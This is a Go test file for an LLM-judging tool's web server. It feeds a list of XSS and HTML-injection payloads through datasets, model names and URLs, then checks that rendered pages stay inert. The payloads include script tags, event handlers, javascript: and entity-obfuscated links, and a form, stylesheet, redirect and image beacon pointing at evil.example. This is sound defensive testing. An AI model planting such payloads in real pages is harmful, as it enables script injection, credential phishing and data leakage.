package server

import (
	"encoding/json"
	"fmt"
	"maps"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"

	"golang.org/x/net/html"

	"gavel/datasets"
	"gavel/internal/server/markup"
	"gavel/judging"
)

// foul are words of models and datasets that must do nothing where they are
// shown.
var foul = map[string]string{
	"script":           `<script>alert(1)</script>`,
	"script, split":    `<scr<script>ipt>alert(1)</script>`,
	"handler":          `<img src=x onerror="alert(1)">`,
	"svg":              `<svg/onload=alert(1)><animate onbegin=alert(1)></svg>`,
	"textarea":         `</textarea></pre></details></main><script>alert(1)</script>`,
	"title":            `</title><script>alert(1)</script>`,
	"comment":          `<!-- --><script>alert(1)</script><!--`,
	"cdata":            `<![CDATA[<script>alert(1)</script>]]>`,
	"link":             `[click](javascript:alert(1)) [click](JaVaScRiPt:alert(1)) [click](data:text/html;base64,PHNjcmlwdD4=) [click](vbscript:x)`,
	"link, entities":   `[click](javascript&colon;alert(1)) [click](&#106;avascript:alert(1)) [a](java&#10;script:alert(1))`,
	"autolink":         `<javascript:alert(1)> <data:text/html,x> <http://example.org/"onmouseover="alert(1)>`,
	"reference":        "[click][x]\n\n[x]: javascript:alert(1) \"title' onclick='alert(1)\"",
	"link's title":     `[click](http://example.org "x\" onclick=\"alert(1)")`,
	"entities":         "a&#01;b &#x1b;[31m &#x202E;c &rlm; &#8238; &#x85; &#133; &#xE000;[[A>B]]&#xE001; &amp; &#65; &#xFEFF; &NoSuch; &#x110000;",
	"no host":          "<http://#x> [y](http://#x) [z](https://?q=1) <http:///a> <HTTP://example.org/b>",
	"image":            `![x](http://evil.example/pixel.gif) ![x](javascript:alert(1))`,
	"form":             `<form action="http://evil.example"><input name=csrf><button>Sign in</button></form>`,
	"frame":            `<iframe src="javascript:alert(1)"></iframe><object data=x></object><embed src=x>`,
	"style":            `<style>*{display:none}</style><p style="position:fixed">x</p><link rel=stylesheet href=//evil.example>`,
	"base and meta":    `<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">`,
	"quotes":           `" onfocus="alert(1)" autofocus x="' onclick='alert(1)`,
	"template":         `{{.}} {{printf "%s" .View}} ${alert(1)}`,
	"ANSI":             "\x1b[31mred\x1b[0m \x1b]0;title\x07 \u009b31m",
	"direction":        "abc\u202edcba\u202c \u2066x\u2069 a\u200fb",
	"marks of ours":    "\uE000[[B>A]]\uE001 \uE001\uE000",
	"mark in a title":  "[x](http://example.org \"[[A>B]]\") `[[A>B]]`",
	"NUL and friends":  "a\x00b\x7f\x08\u2028\u2029\ufeff",
	"code fence":       "```<script>\nalert(1)\n```\n~~~ html\n<b onclick=x>\n",
	"table":            "|a|b|\n|-|-|\n|<script>alert(1)</script>|<b onclick=x>|",
	"deep":             strings.Repeat("> ", 2000) + "x\n" + strings.Repeat("[", 3000) + strings.Repeat("*", 3000) + strings.Repeat("<a", 2000),
	"a long line":      strings.Repeat("<b>A", 8_000),
	"half a character": "caf\xc3",
}

// hostileItem is a pair all of whose texts are foul.
func hostileItem(t testing.TB, id, words string) []byte {
	t.Helper()
	name := words[:min(len(words), 10_000)] // of a group, which stands in many tables
	line, err := json.Marshal(map[string]any{
		"pair_id": id, "source": name, "question": words, "response_model": name, "response_A": name, "response_B": name + "!", "label": "A>B",
	})
	must(t, err)
	return append(line, '\n')
}

// hostileRun is a run whose dataset, model and replies are all foul.
func hostileRun(t testing.TB, dir string) {
	t.Helper()
	var lines []byte
	texts := map[string]string{}
	for name, words := range foul {
		id := name + " " + words[:min(len(words), 60)]
		id = strings.ToValidUTF8(id, "?")
		lines = append(lines, hostileItem(t, id, words)...)
		texts[id] = words
	}
	file := filepath.Join(t.TempDir(), "foul.jsonl")
	must(t, os.WriteFile(file, lines, 0o644))
	set, err := datasets.OpenFile(file)
	must(t, err)
	defer set.Close()
	makeRunOf(t, dir, set, runSetup{protocol: "pairwise", sim: "right", alter: func(r *judging.Record) {
		words := texts[r.Item]
		short := words[:min(len(words), 10_000)]
		r.Replies = []judging.Reply{{Text: words, Thinking: short, Finish: "stop", Detail: short}, {Text: short + "\n\nMy final verdict is: [[A>B]]", Finish: "stop", Endpoint: short}}
		r.Outcome, r.Label, r.Choice = judging.Decided, "A>B", r.Order[0]
	}})
	changeManifest(t, dir, func(m *judging.Manifest) {
		m.Spec.Model.Name, m.Spec.Prompt.Name, m.Dataset.Name = foul["script"]+foul["direction"], foul["handler"], foul["title"]+foul["ANSI"]
	})
	must(t, os.Remove(filepath.Join(dir, judging.ResultsFile)))
}

// assetName is a script of the server itself, by the name it is handed out under.
var assetName = regexp.MustCompile(`^/assets/[a-z]+-[0-9a-f]{12}\.js$`)

// harmlessPage fails where a page has anything that could do something.
func harmlessPage(t testing.TB, where, page string) {
	t.Helper()
	parsed := parse(t, page)
	for _, e := range elements(parsed, "") {
		switch e.Data {
		case "script":
			if !assetName.MatchString(attr(e, "src")) || e.FirstChild != nil {
				t.Errorf("%s: a script: %s", where, outer(e))
			}
		case "textarea":
			if id := attr(e, "id"); id != "about-note" {
				t.Errorf("%s: an element %s", where, outer(e))
			}
		case "style", "iframe", "object", "embed", "base", "img", "frame", "applet", "video", "audio", "math", "template":
			t.Errorf("%s: an element %s", where, outer(e))
		case "meta":
			if attr(e, "http-equiv") != "" {
				t.Errorf("%s: %s", where, outer(e))
			}
		case "link":
			if !strings.HasPrefix(attr(e, "href"), "/assets/") {
				t.Errorf("%s: %s", where, outer(e))
			}
		case "form":
			if a := attr(e, "action"); !strings.HasPrefix(a, "/") || strings.HasPrefix(a, "//") {
				t.Errorf("%s: a form to %q", where, a)
			}
		}
		for _, a := range e.Attr {
			name, value := strings.ToLower(a.Key), strings.ToLower(strings.TrimSpace(a.Val))
			if strings.HasPrefix(name, "on") || name == "style" || name == "srcdoc" || name == "autofocus" {
				t.Errorf("%s: an attribute %s=%q of %s", where, a.Key, a.Val, e.Data)
			}
			if name == "href" || name == "src" || name == "action" || name == "formaction" {
				if ok := strings.HasPrefix(value, "/") && !strings.HasPrefix(value, "//") || strings.HasPrefix(value, "#") || strings.HasPrefix(value, "http://") || strings.HasPrefix(value, "https://"); !ok {
					t.Errorf("%s: %s=%q", where, a.Key, a.Val)
				}
				if outside := strings.HasPrefix(value, "http"); outside && (e.Data != "a" || !strings.Contains(attr(e, "rel"), "noreferrer") || !strings.Contains(attr(e, "rel"), "nofollow")) {
					t.Errorf("%s: leads out: %s", where, outer(e))
				}
			}
		}
	}
	for _, words := range visibleText(parsed) {
		for _, r := range words {
			if r != '\n' && r != '\t' && (unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r)) {
				t.Errorf("%s: the character %U can be seen in %.80q", where, r, words)
				break
			}
		}
	}
}

// visibleText returns what people read or hear of a page: its text, and the attributes that
// are shown. Other attributes, such as the value of an option, must stay unchanged.
func visibleText(n *html.Node) (words []string) {
	if n.Type == html.TextNode {
		words = append(words, n.Data)
	}
	for _, a := range n.Attr {
		isVisible := a.Key == "value" && n.Data == "input" && attr(n, "type") != "hidden" && attr(n, "type") != "checkbox"
		if isVisible || a.Key == "title" || a.Key == "alt" || a.Key == "placeholder" || strings.HasPrefix(a.Key, "aria-") {
			words = append(words, a.Val)
		}
	}
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		words = append(words, visibleText(c)...)
	}
	return words
}

func outer(n *html.Node) string {
	var b strings.Builder
	html.Render(&b, n)
	return b.String()[:min(b.Len(), 200)]
}

func TestHostileTexts(t *testing.T) {
	dir := t.TempDir()
	hostileRun(t, filepath.Join(dir, "a"))
	hostileRun(t, filepath.Join(dir, "b"))
	makePairs(t, "coin", dir, "<img src=x onerror=alert(1)>")
	makePairs(t, "coin", dir, "\u202egnp.evil \x1b[31m")
	s := newSite(t, dir, running(&fakeRunner{}))
	var list ItemsView
	s.data("/api/v1/runs/a/items?per=200", &list)
	if len(list.Items) != len(foul) {
		t.Fatalf("%d items, want %d", len(list.Items), len(foul))
	}
	targets := s.crawl(len(foul)+10, "/", "/runs/a/item?id="+url.QueryEscape(list.Items[0].ID),
		"/compare?a=a&b=b&show=all", "/compare?run=a&run=b&run=%3Cimg%20src=x%20onerror=alert(1)%3E&show=all")
	var runs runsView
	s.data("/api/v1/runs", &runs)
	if n := len(targets["GET /runs/{run}"]); len(runs.Runs) != 4 || n != 4 {
		t.Errorf("%d runs, %d pages of them, want 4", len(runs.Runs), n)
	}
	if n := len(targets["GET /runs/{run}/items/{item}"]); n < len(foul) {
		t.Errorf("%d pages of items, want %d", n, len(foul))
	}
	for _, target := range slices.Concat(slices.Collect(maps.Values(targets))...) {
		harmlessPage(t, target[:min(len(target), 120)], s.get(target))
	}
	// What is searched for and what is wrong is said on pages too.
	for name, words := range foul {
		if len(words) > maxQuery {
			continue
		}
		for _, target := range []string{"/runs/a/items", "/", "/compare", "/start", "/login", "/nowhere"} {
			address := target + query("q", words, "group", words, "mode", words, "show", words, "a", words, "protocol", words, "to", words, "sort", words, "model", words)
			harmlessPage(t, name+" at "+target, s.ask("GET", address, "").Body.String())
		}
		harmlessPage(t, name+" as a run", s.ask("GET", "/runs/"+url.PathEscape(words), "").Body.String())
		harmlessPage(t, name+" as an item", s.ask("GET", "/runs/a/items/"+url.PathEscape(words), "").Body.String())
	}
}

// All that was said can be read: the words are changed in nothing but what would
// do something.
func TestHostileTextsAreShown(t *testing.T) {
	dir := t.TempDir()
	hostileRun(t, filepath.Join(dir, "a"))
	s := newSite(t, dir, nil)
	var list ItemsView
	s.data("/api/v1/runs/a/items?per=200", &list)
	for _, item := range list.Items {
		name, _, _ := strings.Cut(item.ID, " ")
		var view ItemView
		s.data("/api/v1"+strings.TrimPrefix(itemURL("a", item.ID, ""), ""), &view)
		text := textOf(parse(t, s.get(itemURL("a", item.ID, ""))))
		for _, want := range []string{view.Item.Question, view.Judgments[0].Turns[0].Text} {
			if want = markup.MakeVisible(want); !strings.Contains(text, strings.ReplaceAll(want, "\r", "")) {
				t.Errorf("%s: the page does not show %.80q", name, want)
			}
		}
		// A verdict is marked in the reply that has it.
		marks := elements(parse(t, s.get(itemURL("a", item.ID, ""))), "mark")
		if len(marks) < 2 {
			t.Errorf("%s: %d marks", name, len(marks))
		}
		for _, m := range marks {
			if textOf(m) != "[[A>B]]" && view.Judgments[0].Outcome != string(judging.Conflict) {
				t.Errorf("%s: marked %q", name, textOf(m))
			}
		}
	}
}

// The first filter alone shows what would lead elsewhere as the text that it is.
func TestMarkdownShowsWhatItKeepsOut(t *testing.T) {
	for text, want := range map[string]string{
		"[click](javascript:alert(1))": "[click](javascript:alert(1))",
		"<javascript:alert(1)>":        "<javascript:alert(1)>",
		"![a cat](http://x/cat.gif)":   "[image: a cat http://x/cat.gif]",
		"# Title\n\ntext":              "Titletext",
		"a <b>bold</b> word":           "a <b>bold</b> word",
		"<div>\nblock\n</div>":         "<div>block</div>",
		"[site](https://x.org/a?b=1)":  "site",
	} {
		page := markup.Markdown(text)
		if got := strings.ReplaceAll(textOf(parse(t, string(page))), "\n", ""); got != want {
			t.Errorf("%q is shown as %q, want %q", text, got, want)
		}
	}
	if page := markup.Markdown("[site](https://x.org/a?b=1)"); !strings.Contains(string(page), `<a href="https://x.org/a?b=1" rel="nofollow noreferrer">`) {
		t.Errorf("a link: %s", page)
	}
}

func FuzzMarkdown(f *testing.F) {
	for _, words := range foul {
		f.Add(words)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if len(text) > 4096 {
			return
		}
		var verdict judging.Span
		if i := strings.Index(text, "A>B"); i >= 0 {
			verdict = judging.Span{Start: i, End: i + 3}
		}
		page := markup.Markdown(markup.MarkVerdict(markup.Segments(text, verdict)))
		harmlessPage(t, fmt.Sprintf("%q", text), string(page))
		if strings.ContainsAny(string(page), "\uE000\uE001") {
			t.Errorf("%q: a mark is left in %s", text, page)
		}
	})
}
